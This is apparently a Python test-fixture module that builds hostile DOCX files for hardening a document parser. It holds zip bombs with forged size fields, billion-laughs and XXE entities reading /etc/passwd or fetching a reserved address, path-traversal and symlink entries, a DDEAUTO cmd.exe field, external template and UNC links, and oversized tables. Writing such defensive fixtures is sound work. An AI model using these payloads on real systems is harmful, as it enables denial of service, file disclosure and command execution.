"""DOCX that are bombs, carry entities, or lack what makes them a document."""

import io
import struct
import zipfile
from collections.abc import Iterator, Mapping
from xml.sax.saxutils import escape

from tests.hostile.syntax import zeros

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}"{}/></Relationships>'
)
_ROOT = _RELS.format("officeDocument", "word/document.xml", "")
_AWAY = "http://192.0.2.1/ambil"  # answers nobody (RFC 5737)


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def document(body: str, prolog: str = "") -> str:
    return f'<?xml version="1.0"?>{prolog}<w:document {_W}><w:body>{body}</w:body></w:document>'


def docx(main: str | bytes, more: Mapping[str, str | bytes] | None = None, **changed: str | None) -> bytes:
    """A document with this main part; changed: other words for the types or root part, None for none."""
    parts: dict[str, str | bytes | None] = {
        "[Content_Types].xml": changed.get("types", _TYPES),
        "_rels/.rels": changed.get("root", _ROOT),
        "word/document.xml": main,
        **(more or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            if content is not None:
                # A fixed date: the same bytes every time.
                archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def bombs() -> Iterator[bytes]:
    good = document(paragraph("Pasal 1"))
    yield _swollen("word/document.xml", 4096, 4096 << 20)
    yield _swollen("word/document.xml", 512, 100)
    yield _swollen("word/media/gambar.png", 2048, 2048 << 20)
    yield docx(good, {f"word/media/{number}.png": b"" for number in range(20_000)})
    yield docx(
        good, {f"word/embeddings/{n}.docx": docx(document(paragraph("x" * 100_000))) for n in range(50)}
    )
    yield docx(document(paragraph("x" * 60_000_000)))
    yield docx(document(paragraph("x") * 1_000_000))
    yield docx(document(f"<w:p>{'<w:r><w:t>x</w:t></w:r>' * 1_200_000}</w:p>"))
    yield docx(document("<w:p/>" * 4_000_000))
    yield _styled(40_000, 4_000)


def _swollen(name: str, megabytes: int, declared: int) -> bytes:
    """A part of so many megabytes of zeros, whatever size it claims to have."""
    whole = docx(document(paragraph("Pasal 1")))
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        kept = {i.filename: archive.read(i) for i in archive.infolist() if i.filename != name}
    packed = zeros(megabytes)[2:-4]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for other, content in kept.items():
            archive.writestr(zipfile.ZipInfo(other), content)
        archive.writestr(zipfile.ZipInfo(name), packed, zipfile.ZIP_STORED)
        info = archive.infolist()[-1]
        info.compress_type, info.file_size = zipfile.ZIP_DEFLATED, min(declared, 0xFFFFFFF0)
        at = info.header_offset
    data = bytearray(out.getvalue())
    data[at + 8 : at + 10] = struct.pack("<H", zipfile.ZIP_DEFLATED)
    data[at + 22 : at + 26] = struct.pack("<L", min(declared, 0xFFFFFFF0))
    return bytes(data)


def _styled(styles: int, paragraphs: int) -> bytes:
    """Every paragraph asks for a style that stands behind many others."""
    held = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/></w:style>'
        for n in range(styles)
    )
    one = f'<w:p><w:pPr><w:pStyle w:val="s{styles - 1}"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'
    types = _TYPES.replace(
        "</Types>",
        '<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.styles+xml"/></Types>',
    )
    return docx(
        document(one * paragraphs),
        {
            "word/styles.xml": f'<?xml version="1.0"?><w:styles {_W}>{held}</w:styles>',
            "word/_rels/document.xml.rels": _RELS.format("styles", "styles.xml", ""),
        },
        types=types,
    )


def entities() -> Iterator[bytes]:
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    yield docx(document(paragraph("&a11;"), f"<!DOCTYPE x [{laughs}]>"))
    yield docx(document(paragraph("&e;"), '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'))
    yield docx(document(paragraph("&e;"), f'<!DOCTYPE x [<!ENTITY e SYSTEM "{_AWAY}">]>'))
    yield docx(document(paragraph("x"), f'<!DOCTYPE x SYSTEM "{_AWAY}.dtd">'))
    yield docx(document(paragraph("x"), f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{_AWAY}"> %p;]>'))
    big = f'<!DOCTYPE x [<!ENTITY a "{"x" * 200_000}">]>'
    yield docx(document(paragraph("&a;" * 20_000), big))
    plain = '<?xml version="1.0" encoding="UTF-16"?>' + document(
        paragraph("&e;"), '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    ).removeprefix('<?xml version="1.0"?>')
    yield docx(plain.encode("utf-16"))
    yield docx(document(paragraph("x")), root=f'<!DOCTYPE x [<!ENTITY e "a">]>{_ROOT.partition("?>")[2]}')
    yield docx(document('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'))
    yield docx(document(f"<!-- {'x' * 9_000_000} -->" + paragraph("x"), "<!-- " + "y" * 9_000_000 + " -->"))


def broken() -> Iterator[bytes]:
    good = document(paragraph("Pasal 1"))
    yield docx(good)[:-30]
    yield docx(good)[:150]
    yield docx(good, root=None)
    yield docx(good, types=None)
    yield docx(good, root=_RELS.format("officeDocument", "../../../etc/passwd", ""))
    yield docx(good, root=_RELS.format("officeDocument", _AWAY, ' TargetMode="External"'))
    yield docx(
        good, {"../../../jahat.txt": "x", "/mutlak.txt": "x", "..\\jahat.txt": "x", "word/../../x": "x"}
    )
    yield docx(b"")
    yield docx(document("<w:p>" * 100_000))
    yield docx(b"\xff\xfe\0\0 bukan xml \x00\x01" * 1000)


def links() -> Iterator[bytes]:
    """Parts that stand elsewhere, fields that fetch, and archives that hold what they do not."""
    good = document(paragraph("Pasal 1"))
    for kind, target in (
        ("attachedTemplate", f"{_AWAY}.dotm"),
        ("image", "file:///etc/passwd"),
        ("aFChunk", "file:///etc/passwd"),
        ("styles", "\\\\192.0.2.1\\bagi\\gaya.xml"),
    ):
        outside = _RELS.format(kind, target, ' TargetMode="External"')
        spaces = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
        chunk = f'<w:altChunk {spaces} r:id="rId1"/>'
        yield docx(document(chunk + paragraph("x")), {"word/_rels/document.xml.rels": outside})
    yield docx(good, {"word/_rels/document.xml.rels": _RELS.format("styles", "../../../../etc/passwd", "")})
    yield docx(good, {"word/_rels/document.xml.rels": _RELS.format("styles", "document.xml", "")})
    fetched = ("DDEAUTO c:\\windows\\system32\\cmd.exe", 'INCLUDETEXT "file:///etc/passwd"')
    fields = "".join(f'<w:fldSimple w:instr="{escape(one, {chr(34): "&quot;"})}"/>' for one in fetched)
    yield docx(document(f"<w:p>{fields}</w:p>" + paragraph("x")))
    yield _linked(good)
    yield _overlapping(4_000)
    yield docx(document("<w:p><w:r>" + "<w:txbxContent>" * 200 + "x"))


def _linked(main: str) -> bytes:
    """An archive whose parts call themselves symbolic links."""
    out = io.BytesIO(docx(main))
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/tautan.xml")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def _overlapping(parts: int) -> bytes:
    """Very many entries of the catalogue that all mean one and the same swollen part."""
    whole = bytearray(docx(document(paragraph("x")), {"word/isi.xml": b"\0" * 40_000_000}))
    at = whole.rindex(b"PK\1\2")
    entry, end = bytes(whole[at : whole.rindex(b"PK\5\6")]), bytearray(whole[whole.rindex(b"PK\5\6") :])
    more = [entry.replace(b"word/isi.xml", b"word/%03x.xml" % number) for number in range(parts)]
    start, size = struct.unpack("<L", end[16:20])[0], struct.unpack("<L", end[12:16])[0]
    end[8:20] = struct.pack("<HHLL", 4 + parts, 4 + parts, size + sum(map(len, more)), start)
    return bytes(whole[: whole.rindex(b"PK\5\6")]) + b"".join(more) + bytes(end)


def tables() -> Iterator[bytes]:
    cell = "<w:tc><w:tcPr>{}</w:tcPr>" + paragraph("Nilai") + "</w:tc>"
    span, merge = '<w:gridSpan w:val="{}"/>', '<w:vMerge w:val="{}"/>'
    yield _table([cell.format(span.format(1_000_000_000))])
    yield _table([cell.format(span.format(-7))])
    yield _table([cell.format(span.format("banyak"))])
    yield _table([cell.format(merge.format("continue"))])
    first, below = cell.format(merge.format("restart")), cell.format(merge.format("continue"))
    yield _table([first, *[below] * 20_000])
    yield _table([cell.format("") * 60] * 6_000)
    yield _table([cell.format(span.format(400)) * 400] * 20)
    yield _table([cell.format("") * 60_000])
    yield docx(document("<w:tbl><w:tr><w:tc>" * 80 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 80))
    yield docx(document("<w:tbl><w:tblGrid>" + '<w:gridCol w:w="1"/>' * 500_000 + "</w:tblGrid></w:tbl>"))


def _table(rows: list[str]) -> bytes:
    return docx(document(f"<w:tbl>{''.join(f'<w:tr>{row}</w:tr>' for row in rows)}</w:tbl>"))
